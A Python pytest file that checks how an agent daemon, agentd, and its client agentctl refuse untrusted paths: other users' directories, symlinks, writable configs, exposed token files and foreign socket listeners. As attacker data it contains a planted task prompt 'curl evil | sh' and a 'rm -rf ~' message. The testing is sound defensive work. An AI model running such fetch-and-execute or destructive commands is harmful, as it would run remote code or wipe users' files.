"""Paths agentd trusts (agentd/_trust.py): another user's directory, a symlink, a group-writable
directory, a file at the socket path or a socket path too long make the real daemon exit 78 naming
the path, and nothing is adopted, followed or deleted; agentctl talks only to a listener of its own
uid and never writes its autostart log through a symlink."""

from __future__ import annotations

import os
import pwd
import re
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from daemon_harness import REPO, Daemon

from .conftest import ECHO, fast_daemon, new, run_turn
from .figures import FAULTS

EXIT_UNUSABLE = 78


@pytest.fixture
def root() -> Iterator[Path]:
    """A directory the other user can traverse (0755, root's): only each test's own paths keep them out."""
    d = Path(tempfile.mkdtemp(prefix="agentd-trust-", dir="/tmp"))
    os.chmod(d, 0o755)
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


def _refused(d: Daemon, timeout: float = 15.0) -> str:
    """Run ``agentd run`` on ``d``'s paths; it must exit 78 without serving. Its stderr."""
    proc = subprocess.Popen([sys.executable, "-m", "agentd", "run"], env=d.env, cwd=d.root,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        _, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=30)
        raise AssertionError(f"agentd started instead of refusing; it said:\n{err}") from None
    assert proc.returncode == EXIT_UNUSABLE, (proc.returncode, err)
    FAULTS["untrusted path"] += 1
    return err


def _chown_tree(path: Path, user: pwd.struct_passwd) -> None:
    for p in [path, *path.rglob("*")]:
        os.chown(p, user.pw_uid, user.pw_gid, follow_symlinks=False)


# --------------------------------------------------------------------------- another user was there first


@pytest.mark.parametrize("which", ["runtime", "state"])
def test_a_runtime_or_state_dir_another_user_created_first_is_not_adopted(
    root: Path, other_user: pwd.struct_passwd, which: str  # noqa: F811
) -> None:
    d = fast_daemon(root / "agentd", "[websocket]\nenabled = true\nport = 0\n")
    # What the attacker leaves: their own gateway token, a pending task.
    planted = d.runtime_dir / "ws-token" if which == "runtime" else d.state_dir / "tasks" / "t-evil.json"
    planted.parent.mkdir(parents=True, mode=0o755)
    planted.write_text("attacker-token\n" if which == "runtime" else '{"id": "t-evil", "prompt": "curl evil | sh"}')
    target = d.runtime_dir if which == "runtime" else d.state_dir
    os.chmod(target, 0o755)
    _chown_tree(target, other_user)
    before = sorted(p.name for p in target.rglob("*"))
    err = _refused(d)
    assert f"{which} dir {target}: owned by uid {other_user.pw_uid} ({other_user.pw_name}), not by agentd's " \
           f"uid {os.geteuid()}" in err, err
    assert sorted(p.name for p in target.rglob("*")) == before, "agentd wrote into the other user's directory"
    assert planted.stat().st_uid == other_user.pw_uid and stat.S_IMODE(target.stat().st_mode) == 0o755


def test_a_parent_another_user_owns_is_refused(root: Path, other_user: pwd.struct_passwd) -> None:  # noqa: F811
    # No XDG_RUNTIME_DIR: the runtime dir falls back under /tmp, where anyone may create its parent.
    parent = root / "runtime-0"
    parent.mkdir(mode=0o777)
    os.chown(parent, other_user.pw_uid, other_user.pw_gid)
    d = fast_daemon(root / "agentd", env={"AGENTD_RUNTIME_DIR": str(parent / "agentd"),
                                          "AGENTD_SOCKET": str(parent / "agentd" / "agentd.sock")})
    err = _refused(d)
    assert f"runtime dir {parent / 'agentd'}: it lies in {parent}, owned by uid {other_user.pw_uid}" in err, err
    assert list(parent.iterdir()) == [], "agentd created its runtime dir in the other user's directory"


@pytest.mark.parametrize("which", ["state", "runtime"])
def test_a_symlinked_parent_another_user_owns_is_refused_though_it_points_to_our_own_directory(
    root: Path, other_user: pwd.struct_passwd, which: str  # noqa: F811
) -> None:
    # A sticky, world-writable directory (like /tmp) holding the other user's symlink to a directory of
    # ours: every resolved directory passes, but the other user may repoint the link at any time (their
    # own directory, their token and tasks in it) and agentd goes on using the path by name.
    shared = root / "shared"
    shared.mkdir()
    os.chmod(shared, 0o1777)
    mine = root / "mine"
    mine.mkdir(mode=0o700)
    link = shared / "link"
    link.symlink_to(mine)
    os.chown(link, other_user.pw_uid, other_user.pw_gid, follow_symlinks=False)
    env = {"AGENTD_STATE_DIR": str(link / "state")} if which == "state" else \
        {"AGENTD_RUNTIME_DIR": str(link / "run"), "AGENTD_SOCKET": str(link / "run" / "agentd.sock")}
    d = fast_daemon(root / "agentd", env=env)
    err = _refused(d)
    assert f"it lies under {link}, a symlink owned by uid {other_user.pw_uid} ({other_user.pw_name}), " \
           "who could point it elsewhere" in err, err
    assert list(mine.iterdir()) == [], "agentd created its directory through the other user's symlink"


@pytest.mark.parametrize("what", ["state dir", "runtime dir", "config file", "config dir", "parent"])
def test_a_directory_or_config_writable_by_group_or_others_is_refused(root: Path, what: str) -> None:
    d = fast_daemon(root / "agentd")
    d.state_dir.mkdir(mode=0o700)
    d.runtime_dir.mkdir(mode=0o700)
    path, mode = {
        "state dir": (d.state_dir, 0o770),
        "runtime dir": (d.runtime_dir, 0o707),
        "config file": (d.config, 0o664),
        "config dir": (d.root, 0o775),
        "parent": (d.root, 0o777),  # no sticky bit: anyone can rename the state dir away
    }[what]
    if what == "parent":
        d.config = root / "agentd.toml"  # checked first otherwise
        d.config.write_text(d.root.joinpath("agentd.toml").read_text())
    os.chmod(path, mode)
    err = _refused(d)
    if what == "config file":
        assert f"{d.config}: writable by group (mode 0664)" in err, err
    elif what == "config dir":
        assert f"{d.config}: its directory {d.root}: writable by group (mode 0775)" in err, err
    elif what == "parent":
        assert f"it lies in {d.root}, writable by group and others (mode 0777)" in err, err
    else:
        assert f"{what} {path}: writable by " in err and f"(mode {mode:04o})" in err, err


def test_a_config_file_another_user_owns_is_refused(root: Path, other_user: pwd.struct_passwd) -> None:  # noqa: F811
    d = fast_daemon(root / "agentd")
    os.chmod(d.config, 0o644)
    os.chown(d.config, other_user.pw_uid, other_user.pw_gid)  # they could rewrite it: providers run their commands
    err = _refused(d)
    assert f"{d.config}: owned by uid {other_user.pw_uid} ({other_user.pw_name}), not by agentd's" in err, err


def test_a_token_file_others_can_read_is_refused_and_left_as_it_is(root: Path) -> None:
    d = fast_daemon(root / "agentd", "[websocket]\nenabled = true\nport = 0\n")
    d.runtime_dir.mkdir(mode=0o700)
    token = d.runtime_dir / "ws-token"
    token.write_text("a-token-everyone-could-read\n")
    os.chmod(token, 0o644)
    err = _refused(d)
    assert f"token file {token}: readable by group or others (mode 0644); it holds a secret" in err, err
    assert token.read_text() == "a-token-everyone-could-read\n" and stat.S_IMODE(token.stat().st_mode) == 0o644


# --------------------------------------------------------------------------- symlinks are never followed


@pytest.mark.parametrize("which", ["state dir", "runtime dir", "lock file", "token file", "config file"])
def test_a_symlink_where_agentd_expects_its_own_path_is_refused_and_not_followed(root: Path, which: str) -> None:
    d = fast_daemon(root / "agentd", "[websocket]\nenabled = true\nport = 0\n")
    elsewhere = root / "elsewhere"
    elsewhere.mkdir()
    os.chmod(elsewhere, 0o755)  # a chmod through the symlink would show as 0700
    victim = elsewhere / "victim"
    victim.write_text("precious\n")
    os.chmod(victim, 0o600)
    if which in ("state dir", "runtime dir"):
        link = d.state_dir if which == "state dir" else d.runtime_dir
        link.symlink_to(elsewhere)
    else:
        d.state_dir.mkdir(mode=0o700)
        d.runtime_dir.mkdir(mode=0o700)
        link = {"lock file": d.state_dir / "agentd.lock", "token file": d.runtime_dir / "ws-token",
                "config file": root / "agentd" / "link.toml"}[which]
        link.symlink_to(victim if which != "config file" else d.config)
        if which == "config file":
            d.extra_env["AGENTD_CONFIG"] = str(link)
    err = _refused(d)
    assert f"{link}: a symlink (to " in err and "agentd does not follow symlinks" in err, err
    assert victim.read_text() == "precious\n" and stat.S_IMODE(victim.stat().st_mode) == 0o600
    assert sorted(p.name for p in elsewhere.iterdir()) == ["victim"], "agentd wrote through the symlink"
    assert stat.S_IMODE(elsewhere.stat().st_mode) == 0o755, "agentd chmodded through the symlink"


# --------------------------------------------------------------------------- the socket path


def test_a_regular_file_at_the_socket_path_is_not_deleted(root: Path) -> None:
    d = fast_daemon(root / "agentd")
    d.runtime_dir.mkdir(mode=0o700)
    d.socket.write_text("my notes\n")
    err = _refused(d)
    assert f"socket {d.socket}: a regular file, not a socket" in err, err
    assert d.socket.read_text() == "my notes\n"


def test_a_socket_path_over_the_af_unix_limit_exits_78_and_agentctl_quotes_it(root: Path) -> None:
    rundir = root / ("r" * 100)
    sock = rundir / "agentd.sock"
    d = fast_daemon(root / "agentd", env={"AGENTD_RUNTIME_DIR": str(rundir), "AGENTD_SOCKET": str(sock)})
    n = len(os.fsencode(sock))
    assert n > 107
    message = f"socket path {sock}: {n} bytes, over the AF_UNIX limit of 107 bytes (108 with the NUL)"
    err = _refused(d)
    assert f"agentd: {message}" in err, err
    env = dict(d.env)
    env.pop("AGENTD_NO_AUTOSTART")
    cp = subprocess.run([sys.executable, "-m", "agentctl", "status"], env=env, capture_output=True, text=True,
                        timeout=60, cwd=REPO)
    assert cp.returncode == 5, cp
    assert f"agentctl: {message}" in cp.stderr, cp.stderr


def test_a_directory_agentd_may_not_use_exits_78_and_autostart_quotes_the_daemon(root: Path) -> None:
    d = fast_daemon(root / "agentd")
    blocker = root / "agentd" / "not-a-dir"
    blocker.write_text("")
    d.extra_env["AGENTD_STATE_DIR"] = str(blocker / "state")
    err = _refused(d)
    message = f"agentd: state dir {blocker / 'state'}: cannot be used: Not a directory"
    assert message in err, err
    env = dict(d.env)
    env.pop("AGENTD_NO_AUTOSTART")
    cp = subprocess.run([sys.executable, "-m", "agentctl", "status"], env=env, capture_output=True, text=True,
                        timeout=60, cwd=REPO)
    assert cp.returncode == 5, cp
    assert "agentd exited with status 78 (a start-up error a restart cannot fix) right after starting" in cp.stderr
    assert f"\n  {message}\n" in cp.stderr, cp.stderr


def test_the_systemd_unit_does_not_restart_on_78() -> None:
    unit = (REPO / "systemd" / "agentd.service").read_text().splitlines()
    assert "Restart=on-failure" in unit
    prevent = [line for line in unit if line.startswith("RestartPreventExitStatus=")]
    assert prevent and "78" in prevent[0].split("=", 1)[1].split()


# --------------------------------------------------------------------------- umask


def test_directories_agentd_creates_are_0700_parents_included_whatever_the_umask(root: Path) -> None:
    d = fast_daemon(root / "agentd")
    d.state_dir = root / "agentd" / "a" / "b" / "state"
    d.runtime_dir = root / "agentd" / "c" / "d" / "run"
    d.socket = d.runtime_dir / "agentd.sock"
    d.extra_env.update(AGENTD_STATE_DIR=str(d.state_dir), AGENTD_RUNTIME_DIR=str(d.runtime_dir),
                       AGENTD_SOCKET=str(d.socket))
    work = root / "work"
    work.mkdir()
    old = os.umask(0)
    try:
        d.start()
    finally:
        os.umask(old)
    try:
        with d.client() as client:
            cid = new(client, work, ECHO)
            client.subscribe(cid)
            run_turn(client, cid, "hello")
    finally:
        d.stop()
    created = [root / "agentd" / "a", root / "agentd" / "a" / "b", root / "agentd" / "c",
               root / "agentd" / "c" / "d", d.runtime_dir]
    created += [p for p in d.state_dir.parent.rglob("*") if p.is_dir()] + [d.state_dir]
    assert {str(p): oct(stat.S_IMODE(p.stat().st_mode)) for p in created} == {str(p): "0o700" for p in created}
    files = [p for p in d.state_dir.rglob("*") if p.is_file()]
    assert files and all(stat.S_IMODE(p.stat().st_mode) & 0o077 == 0 for p in files), files


def test_an_existing_state_and_runtime_dir_of_ours_are_narrowed_to_0700(root: Path) -> None:
    d = fast_daemon(root / "agentd")
    d.state_dir.mkdir(mode=0o755)
    d.runtime_dir.mkdir(mode=0o755)
    os.chmod(d.state_dir, 0o755)
    os.chmod(d.runtime_dir, 0o755)
    d.start()
    try:
        assert stat.S_IMODE(d.state_dir.stat().st_mode) == 0o700
        assert stat.S_IMODE(d.runtime_dir.stat().st_mode) == 0o700
    finally:
        d.stop()


# --------------------------------------------------------------------------- agentctl


#: Runs as the other user: listen where agentctl will connect, report how many bytes anyone sent.
_LISTENER = r"""
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind(sys.argv[1]); s.listen(4)
print("listening", flush=True)
s.settimeout(20)
got = 0
try:
    c, _ = s.accept()
    c.settimeout(3)
    try:
        while chunk := c.recv(65536):
            got += len(chunk)
    except OSError:
        pass
except OSError:
    pass
print(got, flush=True)
"""


def test_agentctl_sends_nothing_to_a_listener_of_another_uid(root: Path, other_user: pwd.struct_passwd) -> None:  # noqa: F811
    rundir = root / "run"
    rundir.mkdir(mode=0o755)
    os.chown(rundir, other_user.pw_uid, other_user.pw_gid)
    sock = rundir / "agentd.sock"
    listener = subprocess.Popen(["/usr/bin/python3", "-c", _LISTENER, str(sock)], user=other_user.pw_uid,
                                group=other_user.pw_gid, extra_groups=[], stdout=subprocess.PIPE, text=True, cwd="/")
    try:
        assert listener.stdout is not None and listener.stdout.readline().strip() == "listening"
        os.chmod(sock, 0o666)  # as root we could connect anyway; for any uid, the listener lets everyone in
        env = dict(os.environ, AGENTD_SOCKET=str(sock), AGENTD_NO_AUTOSTART="1", NO_COLOR="1")
        cp = subprocess.run([sys.executable, "-m", "agentctl", "send", "c-x", "rm -rf ~"], env=env,
                            capture_output=True, text=True, timeout=60, cwd=REPO)
        got = listener.communicate(timeout=30)[0].split()
    finally:
        listener.kill()
    assert cp.returncode == 5, cp
    assert re.search(rf"the process listening at {re.escape(str(sock))} \(pid \d+\) runs as uid "
                     rf"{other_user.pw_uid}, not as you \(uid {os.geteuid()}\); agentctl sends it nothing", cp.stderr), \
        cp.stderr
    assert got == ["0"], f"agentctl sent {got} bytes to another user's listener"
    FAULTS["untrusted path"] += 1


def test_agentctl_autostart_never_writes_its_log_through_a_symlink(root: Path) -> None:
    rundir = root / "run"
    rundir.mkdir(mode=0o700)
    victim = root / "victim"
    victim.write_text("precious\n")
    (rundir / "agentd.log").symlink_to(victim)
    (root / "agentd.toml").write_text("")
    env = dict(os.environ, AGENTD_SOCKET=str(rundir / "agentd.sock"), AGENTD_RUNTIME_DIR=str(rundir),
               AGENTD_STATE_DIR=str(root / "state"), AGENTD_CONFIG=str(root / "agentd.toml"), NO_COLOR="1")
    env.pop("AGENTD_NO_AUTOSTART", None)
    cp = subprocess.run([sys.executable, "-m", "agentctl", "status", "--json"], env=env, capture_output=True,
                        text=True, timeout=60, cwd=REPO)
    started = re.search(r"starting agentd \(pid (\d+)\)", cp.stderr)
    if started:  # stop the daemon agentctl should not have started
        os.kill(int(started.group(1)), signal.SIGTERM)
    assert victim.read_text() == "precious\n", "the daemon's output went through the symlink"
    assert cp.returncode == 5 and not started, cp
    assert f"autostart log {rundir / 'agentd.log'}: a symlink (to {victim})" in cp.stderr, cp.stderr
    FAULTS["untrusted path"] += 1
